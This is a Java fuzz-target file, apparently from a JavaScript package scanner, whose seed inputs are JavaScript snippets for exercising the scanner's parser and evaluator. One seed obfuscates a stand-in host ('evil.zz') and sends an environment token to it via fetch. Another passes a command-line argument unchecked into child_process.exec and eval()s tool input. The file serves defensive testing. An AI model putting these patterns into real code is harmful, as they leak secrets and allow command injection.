package dev.assay.scanners.javascript;

import dev.assay.scanners.fuzz.FuzzTarget;
import dev.assay.scanners.profile.Packages;

import java.util.List;

/** Code: the parser, its translation, scopes, fingerprints, and the evaluator. */
public final class CodeFuzz implements FuzzTarget {

    @Override
    public void read(byte[] bytes) {
        Packages.npm("a", "1.0.0")
                .manifest("{\"name\":\"a\",\"main\":\"index.js\"}")
                .file("index.js", bytes)
                .file("b.js", "export const b = 'https://b.zz/'; export default 1;")
                .profile();
    }

    @Override
    public List<byte[]> seeds() {
        return FuzzTarget.texts(
                """
                import a, {b as c} from './b.js'; export * from 'd'; export default class extends c {
                  static #x = 1; get y() { return this.#x ?? 2n } async *z({q = [1, ...w], ...r}) {
                    for await (const e of r) yield* e?.[`t${q}`]; label: while (1) break label; } }
                const {env: {TOKEN}} = process; var h = ['https:/', atob('ZXZpbC56eg==')].join('/');
                fetch(h + String.fromCharCode(47, 97).split('').reverse().join(''), {body: TOKEN});
                new Function('a', 'return a')(/[a-z]+/giu, () => ({...a}));
                """,
                """
                var s=require('child_process');try{s.exec('id '+process.argv[2])}catch{}finally{}
                server.tool('n','d',{a:z.string()},async function({a}){return eval(a)});
                if(!0)do{switch(x){case 1:throw x;default:with(y)z}}while(a,b);x**=y>>>2;x??=y||z
                """);
    }
}
